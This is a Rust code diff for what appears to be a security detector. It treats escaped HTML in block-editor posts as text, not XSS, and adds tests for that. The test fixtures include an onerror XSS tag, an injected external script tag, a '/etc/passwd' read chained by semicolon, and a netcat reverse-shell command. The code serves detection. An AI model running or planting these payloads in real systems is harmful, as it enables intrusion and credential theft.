@@ -124,8 +124,10 @@ pub fn confirm(
     };
     // HTML is read as a browser reads it: its character references are text. A rich-text editor escapes the
     // markup a user types as text (a post showing `&lt;img onerror=...&gt;` inside `<code>`), and decoding them
-    // would turn the example into the markup it shows.
-    let mut forms = if shape == Shape::Markup && confirm == Confirm::Xss {
+    // would turn the example into the markup it shows. A document of several lines written in HTML (a block
+    // editor's post, one block a line) is such HTML too.
+    let html = shape == Shape::Markup || (shape == Shape::Document && shape::is_markup(raw));
+    let mut forms = if html && confirm == Confirm::Xss {
         vec![Cow::Borrowed(raw)]
     } else {
         with_transformed(decoded, raw, transformed, map, request)
@@ -517,6 +519,12 @@ mod tests {
             Confirm::Xss,
             "<p>I tried <code>x</code> <img src=x onerror=alert(1)> and it was escaped.</p>"
         ));
+        // So is a block editor's post of several lines.
+        let blocks = "<!-- wp:paragraph -->\n<p>Here is how I did it:</p>\n<!-- /wp:paragraph -->\n<!-- wp:code -->\n\
+            <pre class=\"wp-block-code\"><code>&lt;script src=\"https://cdn.example/w.js\"&gt;&lt;/script&gt;</code></pre>\n\
+            <!-- /wp:code -->";
+        assert!(!confirmed(Confirm::Xss, blocks));
+        assert!(confirmed(Confirm::Xss, &blocks.replace("&lt;", "<")));
         assert!(confirmed(Confirm::Shell, "127.0.0.1; cat /etc/passwd"));
         assert!(confirmed(Confirm::Shell, "x|nc 10.0.0.1 4444 -e /bin/sh"));
         // A fragment of no data shape scores as its pattern says.
